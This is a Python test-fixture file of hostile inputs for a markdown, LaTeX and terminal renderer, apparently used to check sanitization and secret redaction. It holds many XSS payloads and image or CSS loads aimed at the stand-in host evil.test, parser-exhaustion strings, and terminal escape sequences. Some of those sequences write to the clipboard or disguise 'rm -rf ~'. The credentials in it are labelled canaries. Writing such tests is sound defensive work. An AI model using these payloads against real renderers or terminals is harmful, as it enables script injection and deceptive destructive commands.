"""Hostile answers: (name, text). What runs sets ``window.bad``; what loads asks evil.test.

`TERMINAL` is for terminals: what they would obey.
"""

from __future__ import annotations

import unicodedata

E = "http://evil.test"
J = "javascript:window.bad=1"
F = "```"
HTML = [
    ("script", "<script>window.bad=1</script>"),
    ("script-src", f"<script src={E}/s.js></script>"),
    ("close-script", "</script></style></textarea></title><img src=x onerror=window.bad=1>"),
    ("img-onerror", "<img src=x onerror='window.bad=1'>"),
    ("img-src", f'<img src="{E}/1.png"><picture><source srcset="{E}/2.png"><img></picture>'),
    (
        "svg-onload",
        f"<svg onload=window.bad=1><image href='{E}/svg.png'/><use href='{E}/u#x'/><script>window.bad=1</script></svg>",
    ),
    (
        "iframe",
        f"<iframe srcdoc='<script>parent.bad=1</script>'></iframe><iframe src={E}/f></iframe>",
    ),
    ("style-import", f"<style>@import url({E}/i.css);body{{background:url({E}/b.png)}}</style>"),
    ("link", f"<link rel=stylesheet href={E}/l.css><link rel=prefetch href={E}/p>"),
    ("meta", f"<meta http-equiv=refresh content='0;url={E}/m'>"),
    ("base", f"<base href={E}/>\n\n[x](relative)"),
    (
        "form",
        f"<form action={E}/form><input name=q autofocus onfocus=window.bad=1><button formaction={E}/b>go</button></form>",
    ),
    (
        "media",
        f"<video src={E}/v poster={E}/poster autoplay></video><audio src={E}/a autoplay></audio><object data={E}/o></object><embed src={E}/e>",
    ),
    (
        "css-attr",
        f"<p style='background:url({E}/css.png)'>x</p><div style='position:fixed;inset:0;z-index:9999;background:url({E}/d)'>y</div>",
    ),
    (
        "handlers",
        "<p onclick=window.bad=1 onmouseover=window.bad=1 onanimationstart=window.bad=1>x</p><details open ontoggle=window.bad=1><body onload=window.bad=1>",
    ),
    (
        "body-attrs",
        "<a href='javascript:window.bad=1' id=__proto__ name=document>x</a><math href='javascript:window.bad=1'>x</math>",
    ),
    (
        "comment",
        f"<!-- --><img src={E}/c.png onerror=window.bad=1><!-- -->\n\n<!--\n\n<img src={E}/c2.png>\n\n-->\n\n<?php <img src={E}/c3.png> ?>\n\n<![CDATA[<img src={E}/c4.png>]]>\n\n<!X <img src={E}/c5.png>>",
    ),
    (
        "mutation",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={E}/mx onerror=window.bad=1&gt;">',
    ),
    ("noscript", f"<noscript><p title='</noscript><img src={E}/ns onerror=window.bad=1>'>"),
    (
        "html-blocks",
        f"<div>\n![x]({E}/hb.png)\n</div>\n\n<details><summary>a</summary>\n\n![x]({E}/hb2.png)\n\n</details>\n\n<table><tr><td>\n\n![x]({E}/hb3.png)\n\n</td></tr></table>",
    ),
    (
        "entities-html",
        "&lt;img src=x onerror=window.bad=1&gt; &#60;script&#62;window.bad=1&#60;/script&#62; &amp;lt;img src=x onerror=window.bad=1&amp;gt;",
    ),
    (
        "split-tag",
        "<img\nsrc=x\nonerror=window.bad=1\n>\n\n<im\\g src=x> <\x00img src=x onerror=window.bad=1> <\u202eimg src=x>",
    ),
    (
        "widget",
        "<button class='ns-stop jp-mod-styled' data-commandlinker-command='kernelmenu:restart' data-commandlinker-args='{}'>Restart</button>",
    ),
    (
        "html-in-code-edge",
        f"`` ` <img src={E}/ce.png> ``\n\n`<img src={E}/ce2.png>\n\n`\n\n- `\n- <img src={E}/ce3.png>`\n\n~~~\n<img src={E}/ce4.png>\n\n> ```\n<img src={E}/ce5.png>",
    ),
]
LINKS = [
    (
        "js-links",
        f'[a]({J}) [b](<{J}>) [c](JaVaScRiPt:window.bad=1) [d](java\tscript:window.bad=1) [e](<java\tscript:window.bad=1>) [f]( {J} "t") [g](\x01{J})',
    ),
    (
        "js-entities",
        "[a](javascript&colon;window.bad=1) [b](java&#x73;cript:window.bad=1) [c](java&Tab;script:window.bad=1) [d](&#106avascript:window.bad=1) [e](java&NewLine;script&colon;window.bad=1) [f](javascript&#58window.bad=1) [g](jav%61script:window.bad=1) [h](javascript\\:window.bad=1)",
    ),
    (
        "js-reference",
        f"[a][1] [b] [2][] ![i][1]\n\n[1]: {J}\n[b]: <{J}>\n[2]: java&#115;cript:window.bad=1 'title'\n\n> [q]: {J}\n\n[q]\n\n[m]:\n  {J}\n\n[m]",
    ),
    (
        "js-autolinks",
        f"<{J}> <data:text/html,<script>window.bad=1</script>> <vbscript:x> <JAVASCRIPT:window.bad=1> <file:///etc/passwd> <blob:x> www.evil.test javascript:window.bad=1 xmpp:a@b.c <a@b.c>",
    ),
    (
        "data-links",
        "[a](data:text/html,<script>window.bad=1</script>) [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:msgbox) [d](file:///etc/passwd) [e](blob:http://x) [f](//evil.test/x) [g](\\\\evil.test\\x) [h](about:blank) [i](view-source:x) [j](ws://x) [k](intent:x) [l](vscode://x) [m](ms-msdt:x) [n](relative/path) [o](#frag) [p](?q)",
    ),
    (
        "quote-break",
        '[a](http://a"onmouseover="window.bad=1) [b](<http://a"onclick="window.bad=1>) [c](http://a \'x"onclick="window.bad=1\') ![a"onerror="window.bad=1](http://evil.test/q.png)',
    ),
    (
        "images",
        f"![a]({E}/i1.png) ![]({E}/i2.png) ![a](<{E}/i3.png> 't') ![a][r] ![r] ![r][] !\\[a]({E}/i4.png) \\![a]({E}/i5.png) ![a\nb]({E}/i6.png) ![![n]({E}/i7.png)]({E}/i8.png)\n\n[r]: {E}/r.png",
    ),
    (
        "images-in",
        f"[![a]({E}/j1.png)](http://x) [![]({E}/j2.png)](javascript:window.bad=1)\n\n| a | ![t]({E}/j3.png) |\n|---|---|\n| ![t]({E}/j4.png) | `|` ![t]({E}/j5.png) |\n\n# ![h]({E}/j6.png)\n\n![h]({E}/j7.png)\n===\n\n> ![q]({E}/j8.png)\n\n- ![l]({E}/j9.png)\n\n    ![ind]({E}/j10.png)\n\n**![b]({E}/j11.png)**\n\n[^1] and\n\n[^1]: ![f]({E}/j12.png)",
    ),
    (
        "images-brackets",
        f"![a[b]c]({E}/k1.png) ![a\\]b]({E}/k2.png) ![`a]`]({E}/k3.png) ![a](/k4.png) ![a](  {E}/k5.png  ) ![a]({E}/k(6).png) ![a]({E}/k7.png\n'title') ![x]  ({E}/k8.png) !![a]({E}/k9.png) !&#91;a]({E}/k10.png) &#33;[a]({E}/k11.png) !$[a]({E}/k12.png)$ ![$a]({E}/k13.png)$",
    ),
    ("images-late-ref", f"![later] and ![x][later]\n\ntext\n\ntext\n\n[later]: {E}/late.png"),
    (
        "image-data",
        "![a](data:image/svg+xml,<svg onload=window.bad=1>) ![b](data:image/png;base64,AAAA) ![c](javascript:window.bad=1)",
    ),
    (
        "code-tables",
        f"| a |\n|---|\n    ![x]({E}/t1.png)\n| `a | ![x]({E}/t2.png)` |\n\nx\n    <img src={E}/t3.png>\n\n- a\n\n      <img src={E}/t4.png>\n",
    ),
    (
        "footnote-defs",
        f"[^a] [^<img src={E}/fn.png>]\n\n[^a]: <img src={E}/fn1.png onerror=window.bad=1>\n    ![x]({E}/fn2.png)\n",
    ),
    (
        "commandlinker",
        "[x](http://a){onclick=window.bad=1} {#id .class} [x]{.c} :::{raw} html\n<script>window.bad=1</script>\n:::\n\n{% raw %}<img src=x onerror=window.bad=1>{% endraw %} {{ 7*7 }}",
    ),
    (
        "attachment",
        "![a](attachment:x.png) [b](attachment:x.html) ![c](x.png) ![d](/api/shutdown) [e](/lab?reset) ![f](files/f.png) [g](../../x.html)",
    ),
]
LATEX = [
    (
        "latex-href",
        r"$\href{javascript:window.bad=1}{click}$ $\url{javascript:window.bad=1}$ $$\href{data:text/html,<script>window.bad=1</script>}{x}$$",
    ),
    (
        "latex-text",
        r"$\text{<script>window.bad=1</script>}$ $\text{<img src=x onerror=window.bad=1>}$ \(\mbox{</math><img src=x onerror=window.bad=1>}\) $\text{&lt;img src=x onerror=window.bad=1&gt;}$",
    ),
    (
        "latex-style",
        rf"$\style{{background:url({E}/ls.png)}}{{x}}$ $\class{{jp-x"
        + r'" onmouseover="window.bad=1}{x}$ $\cssId{document}{x}$ $\data{a=b}{x}$',
    ),
    (
        "latex-img",
        rf"$\includegraphics{{{E}/lg.png}}$ $\unicode[evil.test]{{x41}}$ $\unicode{{x3c}}script\unicode{{x3e}}$ $\mmlToken{{mi}}[href=javascript:window.bad=1 onclick=window.bad=1]{{x}}$",
    ),
    (
        "latex-require",
        r"$\require{html}\href{javascript:window.bad=1}{x}$ $\require{../../evil}$ $\require{texhtml}<tex-html><img src=x onerror=window.bad=1></tex-html>$ $\begin{html}<img src=x onerror=window.bad=1>\end{html}$",
    ),
    (
        "latex-macros",
        r"$\def\text#1{PWNED}\gdef\x{PWNED}\newcommand{\alpha}{PWNED}\renewcommand{\beta}{PWNED}\let\gamma=\x$ $\alpha\beta\gamma\text{a}$",
    ),
    (
        "latex-bomb",
        r"$\def\a{\b\b\b\b\b\b\b\b\b\b}\def\b{\c\c\c\c\c\c\c\c\c\c}\def\c{\d\d\d\d\d\d\d\d\d\d}\def\d{\e\e\e\e\e\e\e\e\e\e}\def\e{xxxxxxxxxx}\a$ $\def\r{\r\r}\r$",
    ),
    (
        "latex-rule",
        r"$\rule{99999em}{99999em}$ $\hspace{-9999em}X$ $\raise{9999em}{X}$ $\Huge\Huge\Huge{x}$ $\mathchoice{a}{b}{c}{d}$ $\kern{99999px}$",
    ),
    (
        "latex-attr",
        r'$x" onmouseover="window.bad=1$ $\color{"onclick=window.bad=1}{x}$ $\bbox[url(http://evil.test/bb.png)]{x}$ $\begin{array}{"><img src=x onerror=window.bad=1>}a\end{array}$ $\fcolorbox{red}{<img src=x>}{x}$ $\color{red;background:url(http://evil.test/c.png)}{x}$',
    ),
    (
        "latex-spans",
        f"$a<img src={E}/sp1.png onerror=window.bad=1>b$ $$\n<img src={E}/sp2.png>\n$$ \\(<svg onload=window.bad=1>\\) \\[<img src=x onerror=window.bad=1>\\] $x\n\n<img src={E}/sp3.png>\n\n$ $$ ![a]({E}/sp4.png) $$ $`![a]({E}/sp5.png)`$",
    ),
    (
        "latex-env",
        f"\\begin{{x}}\n<img src={E}/env.png onerror=window.bad=1>\n\\end{{x}}\n\n\\begin{{align}}![a]({E}/env2.png)\\end{{align}} \\ref{{x}} \\tag{{1}} \\label{{x}} \\eqref{{javascript:x}}\n\n\\begin{{equation}}\\href{{javascript:window.bad=1}}{{bare}}\\end{{equation}}",
    ),
]
TEXT = [
    (
        "ansi",
        "\x1b[31mred\x1b[0m \x1b]8;;http://evil.test\x07link\x1b]8;;\x07 \x9b31m \x08\x08\x08 \x07 \r over \x1b[2J\x1b[H\x00nul",
    ),
    (
        "bidi",
        "a\u202eevil\u202c \u2066x\u2069 \u200f\u200e [safe\u202emoc.live](http://evil.test) `x\u202e y` \u061c \u2028 \u2029 \ufeff \u200b zalgo "
        + "\u0300" * 500,
    ),
    (
        "surrogates",
        "emoji \U0001f468\u200d\U0001f469\u200d\U0001f467 "
        + "\ufdd0\ufdef\uffff\U0010ffff\ue000"
        + " \u3164\u115f",
    ),
    (
        "proto",
        "__proto__ constructor toString {{constructor.constructor('window.bad=1')()}} ${window.bad=1} #{window.bad=1} <%= window.bad=1 %>",
    ),
    (
        "fence-info",
        f'{F}<script>window.bad=1</script>\nx\n{F}\n\n{F}python" onmouseover="window.bad=1\nx\n{F}\n\n{F}../../../etc/passwd\nx\n{F}\n\n{F}__proto__\nx\n{F}\n\n{F}mermaid\ngraph TD; A["<img src={E}/mm.png onerror=window.bad=1>"]-->B; click A href "javascript:window.bad=1"\n{F}\n\n{F}html\n<img src={E}/x.png onerror=window.bad=1>\n{F}\n\n{F}{{code-cell}}\nx\n{F}\n\n{F}math\n\\href{{javascript:window.bad=1}}{{x}}\n{F}\n\n{F}text/html\n<b>x</b>\n{F}',
    ),
    ("plus-blocks", "+\n\n+ a\n\n+<img src=x onerror=window.bad=1>\n\n\\+ x\n\n&#43;x"),
    ("nested-quotes", ">" * 3000 + " x"),
    (
        "nested-quotes-spaced",
        "> " * 1000 + "x\n" + "> " * 1000 + "<img src=x onerror=window.bad=1>",
    ),
    ("nested-lists", "".join("  " * n + "- x\n" for n in range(400))),
    ("nested-lists-inline", "- " * 3000 + "x"),
    ("nested-brackets", "[" * 5000 + "x" + "](u)" * 5000),
    ("nested-images", "![" * 3000 + "x" + f"]({E}/n.png)" * 3000),
    ("nested-emphasis", "*" * 5000 + "x" + "*" * 5000),
    ("nested-emphasis-alt", "*a _b " * 5000),
    ("nested-parens", "[a](" + "(" * 5000 + ")" * 5000 + ")"),
    (
        "nested-latex",
        "$"
        + "{" * 2000
        + "x"
        + "}" * 2000
        + "$ $"
        + r"\frac{1}{" * 500
        + "x"
        + "}" * 500
        + "$ $"
        + r"\sqrt{" * 2000
        + "x$",
    ),
    ("open-backticks", "".join("`" * n + " x " for n in range(1, 400))),
    ("open-links", "[a](<" * 10000),
    ("entities-many", "&amp;" * 20000 + "&" * 20000),
    ("autolinks-many", "<http://" * 10000 + "www." * 10000 + "a@" * 5000),
    (
        "refs-many",
        "".join(f"[r{n}]: http://x/{n}\n" for n in range(3000))
        + "".join(f"[r{n}] " for n in range(3000)),
    ),
    ("strike", "~~a " * 20000),
    ("backslashes", "\\" * 100000 + "\n" + "\\$" * 20000),
]
BIG = [
    ("1MB-a", "a" * 1_000_000),
    ("1MB-bracket", "[" * 1_000_000),
    ("1MB-backtick", "`" * 1_000_000),
    ("1MB-words", "word " * 200_000),
    (
        "table-10000",
        "| a | b | c |\n|---|---|---|\n"
        + "".join(f"| {n} | `x{n}` | **y** |\n" for n in range(10_000)),
    ),
    ("list-1000-deep", "".join(" " * (2 * min(n, 100)) + "- x\n" for n in range(1_000))),
    ("headings-1000", "".join(f"# Heading {n}\n\n" for n in range(1_000))),
    ("fence-1MB", F + "python\n" + "x = f(1, 'two')  # three\n" * 40_000 + F),
    ("fence-1MB-line", F + "python\n" + "x=1;" * 250_000 + "\n" + F),
    ("formula-100KB", "$$\n" + "x + " * 25_000 + "y\n$$"),
    ("quote-10000", "> line of a quote\n" * 10_000),
]
ATTACKS = HTML + LINKS + LATEX + TEXT
FIELDS = [
    "<script>window.bad=1</script>",
    "<img src=http://evil.test/f.png onerror=window.bad=1>",
    "![a](http://evil.test/f2.png)",
    "](javascript:window.bad=1)",
    "</small></code></details><img src=http://evil.test/f3.png>",
    "`<img src=http://evil.test/f4.png>`",
    r"$\href{javascript:window.bad=1}{x}$",
    "\n\n<img src=http://evil.test/f5.png>\n\n",
    "```\n<img src=http://evil.test/f6.png>\n```\n![x](http://evil.test/f7.png)",
    "**x** | y \x1b[31m \u202e",
]
URLS = [
    "javascript:window.bad=1",
    'https://a.b/"onclick="window.bad=1',
    "https://a.b/>)![x](http://evil.test/u.png)",
    "https://a.b/`x`$y$\\>",
    "https://a.b/'><img/src=x>",
    "data:text/html,x",
    "http://evil.test/ok",
    " https://sp ",
    "https://a.b/\nx",
    "HTTPS://A",
    "https://a.b/*x*_y_[z](q)",
]
REORDERING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def controls_in(text: str) -> set[str]:
    """The controls and the reordering characters in a text, by Unicode's own tables."""
    return {
        sign
        for sign in text
        if (unicodedata.category(sign) == "Cc" and sign not in "\t\n")
        or unicodedata.bidirectional(sign) in REORDERING
    }


TERMINAL = [
    ("clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07"),
    ("clipboard-st", "\x1b]52;c;cm0gLXJmIH4=\x1b\\"),
    ("clipboard-asked", "\x1b]52;c;?\x07"),
    ("title", "\x1b]0;owned\x07\x1b]2;owned\x1b\\\x1b]1;owned\x07"),
    ("title-pushed-and-asked", "\x1b[22t\x1b[21t\x1b[23t"),
    ("link", "\x1b]8;;http://evil.test\x1b\\bank.test\x1b]8;;\x1b\\"),
    ("palette", "\x1b]4;0;?\x07\x1b]10;#000\x07\x1b]11;#000\x07\x1b]104\x07"),
    ("folder-and-file", "\x1b]7;file://evil.test/\x07\x1b]1337;File=inline=1:AAAA\x07"),
    ("cursor", "\x1b[1;1H\x1b[10A\x1b[3D\x1b[G\x1b7\x1b8\x1b[s\x1b[u\x1bM\x1bD\x1bE"),
    ("erase", "\x1b[2J\x1b[3J\x1b[K\x1b[1K\x1b[2M\x1b[5P\x1b[8X"),
    ("style", "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[28m \x1b[5;7mloud"),
    ("modes", "\x1b[?25l\x1b[?1049h\x1b[?1000h\x1b[?2004h\x1b[4h\x1b[1;1r\x1b=\x1b>"),
    ("reports", "\x1b[6n\x1b[c\x1b[>c\x1b[5n\x1b[x\x1bZ\x05"),
    ("reset", "\x1bc\x1b[!p\x1b#8\x1b(0\x1b)0\x1b%G\x1b%@"),
    ("dcs", "\x1bP+q544e\x1b\\\x1bPq#0;2;0;0;0#0~~\x1b\\\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\"),
    ("apc-pm-sos", "\x1b_Gf=32;AAAA\x1b\\\x1b^private\x1b\\\x1bXstring\x1b\\\x1bkscreen\x1b\\"),
    ("c1-csi", "\x9b2J\x9b31mred\x9b6n"),
    ("c1-osc", "\x9d0;owned\x9c\x9d52;c;eA==\x07"),
    ("c1-others", "\x90+q\x9c\x9fG\x9c\x9ex\x9c\x98x\x9c\x84\x85\x88\x8d\x8e\x8f\x9a"),
    ("lone-escape", "a\x1b"),
    ("double-escape", "\x1b\x1b[31m"),
    ("split-by-controls", "\x1b\x00[\x7f31m \x1b\x18[2J \x1b[3\x1a1m"),
    ("nested", "\x1b[\x1b[31m31m \x1b]0;\x1b]52;c;eA==\x07\x07 \x9b\x1b[2J"),
    ("unended", "\x1b]0;all that follows is the title"),
    ("overwrite", "rm -rf ~ #\rls          "),
    ("overwrite-ends", "good\r\n\rbad\r"),
    ("backspace", "rm -rf ~\b\b\b\b\b\b\b\bls      "),
    ("bell-and-shifts", "\x07\x07 \x0e\x0f \x0b\x0c \x7f\x7f"),
    ("nul", "a\x00b"),
    ("bidi", "\u202egpj.exe\u202c \u2066a\u2069 \u2067b\u2069 \u202da\u202c \u202ab\u202bc \u2068"),
    ("words", "\u4f60\u597d \U0001f468\u200d\U0001f469 \u0645\u0631\u062d\u0628\u0627 tab\there"),
]

KEY = "gateway/key+canary&456=789"
"""A key that has characters which are escaped."""

TOKEN = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmVk"  # noqa: S105 - nobody's
BASIC = {"ANTHROPIC_CUSTOM_HEADERS": "Authorization: Basic Y2FuYXJ5OmNhbmFyeSBiaXJk"}
PROXY = {"HTTPS_PROXY": "http://canary:can%40ary%2Bbird@proxy.test:3128"}
API_KEY = {"ANTHROPIC_API_KEY": KEY}
ECHOES: list[tuple[str, dict[str, str], str, str]] = [
    ("key", API_KEY, f"bad key {KEY} given", "canary"),
    ("key-percent", API_KEY, "bad key gateway%2Fkey%2Bcanary%26456%3D789 given", "canary"),
    ("key-percent-lower", API_KEY, "bad key gateway%2fkey%2bcanary&456%3d789 given", "canary"),
    ("key-json", API_KEY, r"bad key gateway\/key\u002bcanary\u0026456\u003D789 given", "canary"),
    ("key-html", API_KEY, "bad key gateway/key&#43;canary&amp;456&#x3d;789 given", "canary"),
    ("key-cut", API_KEY, "bad key gateway/key+can… given", "key+c"),
    ("key-unknown", {}, "bad key sk-ant-api03-canary given", "canary"),
    ("key-unknown-cut", {}, "bad key x=sk-ant-can... given", "sk-ant-can"),
    ("token", {"ANTHROPIC_AUTH_TOKEN": "canary-token-1"}, "bad key canary-token-1 given", "canary"),
    (
        "header-bearer",
        {"ANTHROPIC_CUSTOM_HEADERS": "Authorization: Bearer canaryword"},
        "bad key canaryword given",
        "canaryword",
    ),
    (
        "headers",
        {"ANTHROPIC_CUSTOM_HEADERS": "x-team: given\r\nX-Api-Key : canary one\r\nno header"},
        "bad key canary one given",
        "canary",
    ),
    (
        "header-random",
        {"ANTHROPIC_CUSTOM_HEADERS": "x-tenant: 0123456789abcdefcanary"},
        "bad key 0123456789abcdefcanary given",
        "canary",
    ),
    (
        "header-cookie",
        {"ANTHROPIC_CUSTOM_HEADERS": 'Cookie: theme=dark; sid="canary1"; csrf=canary2'},
        "bad key canary1 or canary2 given",
        "canary",
    ),
    ("basic", BASIC, "bad key Y2FuYXJ5OmNhbmFyeSBiaXJk given", "Y2FuYXJ5"),
    ("basic-decoded", BASIC, "bad key canary:canary bird given", "canary"),
    ("basic-password", BASIC, "bad key canary bird given", "canary"),
    (
        "identity",
        {"ANTHROPIC_IDENTITY_TOKEN": "canary.1.2"},
        "bad key canary.1.2 given",
        "canary",
    ),
    ("identity-unknown", {}, f"bad key {TOKEN} given", "eyJ"),
    ("foundry", {"ANTHROPIC_FOUNDRY_API_KEY": "canary12"}, "bad key canary12 given", "canary"),
    ("bedrock", {"AWS_BEARER_TOKEN_BEDROCK": "canary12"}, "bad key canary12 given", "canary"),
    ("aws", {"AWS_SECRET_ACCESS_KEY": "canary/12+"}, "bad key canary%2F12%2B given", "canary"),
    (
        "webhook",
        {"ANTHROPIC_WEBHOOK_SIGNING_KEY": "whsec_canary"},
        "bad key whsec_canary given",
        "canary",
    ),
    ("proxy", PROXY, "bad key can@ary+bird given", "ary+"),
    ("proxy-percent", PROXY, "bad key can%40ary+bird given", "ary+"),
    ("proxy-as-typed", PROXY, "bad key can%40ary%2Bbird given", "ary%2B"),
    ("proxy-basic", PROXY, "bad key Y2FuYXJ5OmNhbkBhcnkrYmlyZA== given", "Y2FuYXJ5"),
    (
        "proxy-lower-case",
        {"all_proxy": "http://canary:p@ss@proxy.test:1"},
        "bad key p@ss given",
        "p@ss",
    ),
    (
        "address",
        {"ANTHROPIC_BEDROCK_BASE_URL": "https://u:can/ary@x"},
        "bad key can/ary given",
        "can/",
    ),
    ("address-unknown", {}, "bad key https://u:canary@gw.test/v1 given", "canary"),
    ("address-at", {}, "bad key https://u:can@ary@gw.test/v1 given", "ary@"),
    ("address-user", {}, "bad key //canary@gw.test/v1 given", "canary"),
    ("address-json", {}, r"bad key https:\/\/u:canary@gw.test\/v1 given", "canary"),
    ("address-percent", {}, "bad key ?to=https%3A%2F%2Fu%3Acanary%40gw.test%2Fv1 given", "canary"),
    ("address-parameter", {}, "bad key https://gw.test/v1?api_key=canary&x=1 given", "canary"),
    ("bearer-unknown", {}, "bad key Bearer canary0123456 given", "canary"),
    ("provider-unknown", {}, "bad key sk-proj-0123456789canary0123456789 given", "canary"),
]
"""Keys that servers echo: a name, the environment, what a server says, and what no one may see of it.

Each says ``bad key … given``: what is around the secret stays.
"""
HARMLESS: list[tuple[dict[str, str], str]] = [
    ({"ANTHROPIC_CUSTOM_HEADERS": "x-team: research"}, "the research workspace is over its limit"),
    (
        {"ANTHROPIC_CUSTOM_HEADERS": "anthropic-beta: fine-grained-tool-streaming-2025-05-14"},
        "unknown beta fine-grained-tool-streaming-2025-05-14",
    ),
    ({"ANTHROPIC_CUSTOM_HEADERS": "x-portkey-provider: anthropic"}, "anthropic is overloaded"),
    ({"ANTHROPIC_CUSTOM_HEADERS": "x-max-tokens: 100000"}, "at most 100000 tokens"),
    ({"ANTHROPIC_CUSTOM_HEADERS": "Authorization: Bearer canary"}, "a Bearer is needed"),
    ({"ANTHROPIC_API_KEY": "claude"}, "there is no model claude-sonnet-9"),
    ({"ANTHROPIC_API_KEY": "ollama"}, "ollama/llama3 is not loaded"),
    ({"ANTHROPIC_API_KEY": "none"}, "none of these"),
    ({"HTTPS_PROXY": "http://proxy.test:3128"}, "proxy.test:3128 refused"),
    ({"ANTHROPIC_PROFILE": "research"}, "the research profile"),
    ({}, "a key begins with sk-ant-; see https://docs.test/keys?page=2#a@b or write to a@b.test"),
    ({}, "Basic authentication is required, Bearer tokens are not taken"),
    ({}, "https://github.com/@someone and //comment and 1//2"),
]
"""An environment, and words of a server that are no secrets."""
